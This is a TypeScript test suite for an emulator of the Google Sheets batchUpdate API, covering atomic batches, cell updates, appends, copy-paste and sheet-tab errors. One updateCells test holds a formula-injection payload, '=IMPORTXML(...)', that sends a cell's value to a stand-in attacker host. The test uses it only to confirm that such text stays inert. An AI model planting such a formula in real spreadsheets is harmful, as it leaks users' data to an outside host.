import { caught, cell, scratch } from './scratch';

const FAILED = 'API call to sheets.spreadsheets.batchUpdate failed with error: ';

// https://developers.google.com/workspace/sheets/api/reference/rest/v4/spreadsheets/batchUpdate
describe('a batch of requests', () => {
  it('is applied wholly or not at all, and says which request was refused', () => {
    const { batch, values, api, id } = scratch({ rows: [['a']] });
    const before = api.get(id, { includeGridData: true });
    const refused = caught(() =>
      batch(
        {
          updateCells: { start: { sheetId: 0 }, rows: [{ values: [cell('b')] }], fields: 'userEnteredValue' },
        },
        { addSheet: { properties: { title: 'Other' } } },
        { appendCells: { sheetId: 7, rows: [], fields: '*' } },
      ),
    );
    expect(refused).toEqual({
      name: 'GoogleJsonResponseException',
      message: `${FAILED}Invalid requests[2].appendCells: No grid with id: 7`,
      code: 400,
    });
    expect(values()).toEqual([['a']]);
    expect(api.get(id, { includeGridData: true })).toEqual(before);
  });

  it('answers each request in its place', () => {
    const { batch } = scratch();
    const { replies } = batch(
      { updateCells: { start: { sheetId: 0 }, rows: [], fields: '*' } },
      { addSheet: { properties: { title: 'Second', sheetId: 5 } } },
    );
    expect(replies).toMatchObject([
      {},
      { addSheet: { properties: { sheetId: 5, title: 'Second', index: 1 } } },
    ]);
  });

  it('must not be empty', () => {
    expect(caught(() => scratch().batch()).message).toBe(`${FAILED}Must specify at least one request.`);
  });

  it('throws the name of a request that nobody built', () => {
    expect(() => scratch().batch({ randomizeRange: {} })).toThrow(
      'The request randomizeRange is not emulated. Add it in emulator/sheets/requests.ts.',
    );
  });

  it('shows the spreadsheet after the changes, as far as it was asked for', () => {
    const { api, id } = scratch({
      rows: [
        ['a', 'b'],
        ['c', 'd'],
      ],
    });
    const { updatedSpreadsheet } = api.batchUpdate(
      {
        requests: [
          {
            appendCells: {
              sheetId: 0,
              rows: [{ values: [cell('e'), cell('f')] }],
              fields: 'userEnteredValue',
            },
          },
        ],
        includeSpreadsheetInResponse: true,
        responseIncludeGridData: true,
        responseRanges: ['Sheet1!B2:B'],
      },
      id,
    );
    expect(updatedSpreadsheet?.sheets).toHaveLength(1);
    expect(updatedSpreadsheet?.sheets?.[0]?.data).toMatchObject([
      {
        startRow: 1,
        startColumn: 1,
        rowData: [{ values: [{ formattedValue: 'd' }] }, { values: [{ formattedValue: 'f' }] }],
      },
    ]);
  });
});

// https://developers.google.com/workspace/sheets/api/reference/rest/v4/spreadsheets/request#UpdateCellsRequest
describe('updateCells', () => {
  it('keeps text that looks like a formula as text', () => {
    const { batch, values } = scratch();
    const text = '=IMPORTXML("https://evil.example/"&A2)';
    batch({
      updateCells: { start: { sheetId: 0 }, rows: [{ values: [cell(text)] }], fields: 'userEnteredValue' },
    });
    expect(values()).toEqual([[text]]);
  });

  it('throws the name of a formula, which nobody built', () => {
    const rows = [{ values: [{ userEnteredValue: { formulaValue: '=1' } }] }];
    expect(() => scratch().batch({ updateCells: { start: { sheetId: 0 }, rows, fields: '*' } })).toThrow(
      'A formula is not emulated.',
    );
  });

  it('clears what a range leaves over', () => {
    const { batch, values } = scratch({
      rows: [
        ['a', 'b'],
        ['c', 'd'],
      ],
    });
    batch({
      updateCells: {
        range: { sheetId: 0, endRowIndex: 2, endColumnIndex: 2 },
        rows: [{ values: [cell('x')] }],
        fields: 'userEnteredValue',
      },
    });
    expect(values()).toEqual([['x']]);
  });

  it('does not grow the grid', () => {
    const { batch } = scratch({ rowCount: 2, columnCount: 2 });
    const rows = [{ values: [cell(1), cell(2), cell(3)] }];
    expect(caught(() => batch({ updateCells: { start: { sheetId: 0 }, rows, fields: '*' } })).message).toBe(
      `${FAILED}Invalid requests[0].updateCells: Attempting to write column: 2, beyond the last requested column of: 1`,
    );
    expect(
      caught(() =>
        batch({
          updateCells: { start: { sheetId: 0, rowIndex: 2 }, rows: [{ values: [cell(1)] }], fields: '*' },
        }),
      ).message,
    ).toBe(
      `${FAILED}Invalid requests[0].updateCells: Attempting to write row: 2, beyond the last requested row of: 1`,
    );
  });
});

// https://developers.google.com/workspace/sheets/api/reference/rest/v4/spreadsheets/request#AppendCellsRequest
describe('appendCells', () => {
  it('writes behind the last row with a value, whatever is formatted below', () => {
    const { batch, values } = scratch({ rows: [['a'], [], ['b']] });
    batch(
      {
        repeatCell: {
          range: { sheetId: 0 },
          cell: { userEnteredFormat: { wrapStrategy: 'WRAP' } },
          fields: 'userEnteredFormat',
        },
      },
      { appendCells: { sheetId: 0, rows: [{ values: [cell('c')] }], fields: 'userEnteredValue' } },
    );
    expect(values()).toEqual([['a'], [], ['b'], ['c']]);
  });

  it('grows the grid by as many rows as are missing', () => {
    const { batch, values, sheet } = scratch({ rows: [['a'], ['b']], rowCount: 2 });
    batch({
      appendCells: {
        sheetId: 0,
        rows: [{ values: [cell('c')] }, { values: [cell('d')] }],
        fields: 'userEnteredValue',
      },
    });
    expect(values()).toEqual([['a'], ['b'], ['c'], ['d']]);
    expect(sheet().properties?.gridProperties?.rowCount).toBe(4);
  });
});

describe('copyPaste', () => {
  it('copies values as they stand when its turn comes', () => {
    const { batch, values } = scratch({ rows: [['old', '']] });
    const at = (column: number) => ({
      sheetId: 0,
      startRowIndex: 0,
      endRowIndex: 1,
      startColumnIndex: column,
      endColumnIndex: column + 1,
    });
    batch(
      { copyPaste: { source: at(0), destination: at(1), pasteType: 'PASTE_VALUES' } },
      {
        updateCells: { start: { sheetId: 0 }, rows: [{ values: [cell('new')] }], fields: 'userEnteredValue' },
      },
    );
    expect(values()).toEqual([['new', 'old']]);
  });
});

describe('tabs', () => {
  const refused = (request: GoogleAppsScript.Sheets.Schema.Request) =>
    caught(() => scratch().batch(request)).message.replace(/^.*Invalid requests\[0\]\.\w+: /, '');

  it.each<[string, GoogleAppsScript.Sheets.Schema.Request]>([
    [
      'A sheet with the name "sheet1" already exists. Please enter another name.',
      { addSheet: { properties: { title: 'sheet1' } } },
    ],
    ['Sheet with id 0 already exists.', { addSheet: { properties: { sheetId: 0, title: 'X' } } }],
    ["You can't remove all the sheets in a document.", { deleteSheet: { sheetId: 0 } }],
    [
      "You can't freeze all visible rows on the sheet.",
      {
        updateSheetProperties: {
          properties: { sheetId: 0, gridProperties: { frozenRowCount: 10 } },
          fields: 'gridProperties.frozenRowCount',
        },
      },
    ],
  ])('answers %s', (message, request) => {
    expect(refused(request)).toBe(message);
  });

  it('may be renamed and reordered and keep their id', () => {
    const { batch, api, id } = scratch();
    batch(
      { addSheet: { properties: { title: 'Second', sheetId: 9 } } },
      {
        updateSheetProperties: {
          properties: { sheetId: 9, title: 'First', index: 0 },
          fields: 'title,index',
        },
      },
    );
    expect(api.get(id, { fields: 'sheets.properties(sheetId,title,index)' }).sheets).toEqual([
      { properties: { sheetId: 9, title: 'First', index: 0 } },
      { properties: { sheetId: 0, title: 'Sheet1', index: 1 } },
    ]);
  });
});
